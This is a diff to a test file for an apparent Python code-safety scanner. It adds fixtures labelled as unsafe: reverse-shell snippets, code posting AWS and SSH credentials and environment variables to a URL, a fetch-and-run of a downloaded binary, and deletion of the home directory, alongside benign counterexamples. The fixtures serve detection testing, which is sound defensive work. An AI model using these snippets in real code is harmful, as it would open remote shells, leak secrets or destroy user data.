@@ -58,6 +58,28 @@ describe('unsafe source', () => {
       'import socket, os\ns = socket.socket()\ns.connect(("192.0.2.1", 1))\nwhile 1:\n    os.popen(s.recv(99).decode())',
       'opens-reverse-shell critical',
     ],
+    [
+      'import socket, os, pty\nclass C:\n    def __init__(self): self.s = socket.socket()\n    def go(self):\n        self.s.connect(a)\n        pty.spawn("sh")\nC().go()',
+      'opens-reverse-shell critical',
+    ],
+    [
+      'import socket, subprocess\ns = socket.socket()\ns.connect(a)\nsubprocess.Popen(["/bin/sh", "-i"], stdin=s.fileno())',
+      'opens-reverse-shell critical',
+    ],
+    [
+      'import os, requests\nk = open(os.path.expanduser("~/.aws/credentials")).read()\nrequests.post(u, data=k)',
+      'sends-secrets high',
+    ],
+    [
+      'import pathlib, requests\nk = open(pathlib.Path.home() / ".ssh" / "id_rsa")\nrequests.post(u, data=k)',
+      'sends-secrets high',
+    ],
+    ['import os, requests\nrequests.post(u, json={"e": str(os.environ)})', 'sends-secrets high'],
+    [
+      'import urllib.request, subprocess\nurllib.request.urlretrieve(u, "/tmp/x1")\nsubprocess.Popen(["/tmp/x1"])',
+      'runs-harmful-command high',
+    ],
+    ['import os, shutil\nshutil.rmtree(os.path.expanduser("~"))', 'runs-harmful-command high'],
     ['import importlib\nimportlib.import_module(x)', 'loads-code-by-name medium'],
     ['import requests\nrequests.Session().get(u, verify=False)', 'skips-certificate-check medium'],
     [
@@ -109,6 +131,19 @@ describe('honest source', () => {
     ['import base64\nbase64.b64decode(x)\nimport zlib\nzlib.decompress(x)'],
     ['import socket\ns = socket.socket()\ns.connect(a)\ns.sendall(b"x")\ns.recv(10)'],
     ['import os, sys\nos.dup2(log.fileno(), sys.stdout.fileno())'],
+    [
+      'import os, requests\nrequests.get(u, headers={"Authorization": os.environ["TOKEN"]})\nrequests.post(u, json={"a": 1})',
+    ],
+    [
+      'import os, subprocess, requests\nrequests.post(u, json=x)\nsubprocess.run(["x"], env=dict(os.environ, A="1"))',
+    ],
+    [
+      'import urllib.request, subprocess\nurllib.request.urlretrieve(u, "data.tar")\nsubprocess.run(["tar", "xf", "data.tar"])',
+    ],
+    [
+      'import socket, subprocess\ns = socket.socket()\ns.connect(a)\nsubprocess.run(["git", "pull"], check=True)',
+    ],
+    ['import shutil, tempfile\nshutil.rmtree(tempfile.mkdtemp())\nshutil.rmtree("build")'],
     ['import tarfile\ntarfile.open(f).extractall(p, filter="data")\ntarfile.open(f).getmembers()'],
     ['import hashlib\nhashlib.sha256(x)\nhashlib.md5(x, usedforsecurity=False)'],
     [
@@ -150,11 +185,14 @@ describe('code that a loader imports', () => {
     ['open("/root/.ssh/id_rsa").read()', 'reads-secrets high'],
     ['import os\nopen(os.path.expanduser("~") + "/.bashrc", "a")', 'writes-file medium'],
     ['__import__(x).run("id")', 'computes-callable medium'],
+    ['import subprocess\nclass M:\n    def __init__(self): subprocess.Popen(["id"])', 'runs-process high'],
   ])('%j is %s', (source, expected) => expect(imported(source)).toContain(expected));
 
   test.each([
     ['import torch\nclass M(torch.nn.Module):\n    def forward(self, x): return x'],
-    ['import os\nclass M:\n    def f(self): os.system("id")'],
+    [
+      'import os, requests\nclass M:\n    def __init__(self): requests.get(u)\n    def f(self): os.system("id")',
+    ],
     ['import logging, os\nlogger = logging.getLogger(__name__)\nos.environ.setdefault("A", "1")'],
     [
       'from dataclasses import dataclass, field\n@dataclass\nclass A:\n    x: list = field(default_factory=list)',
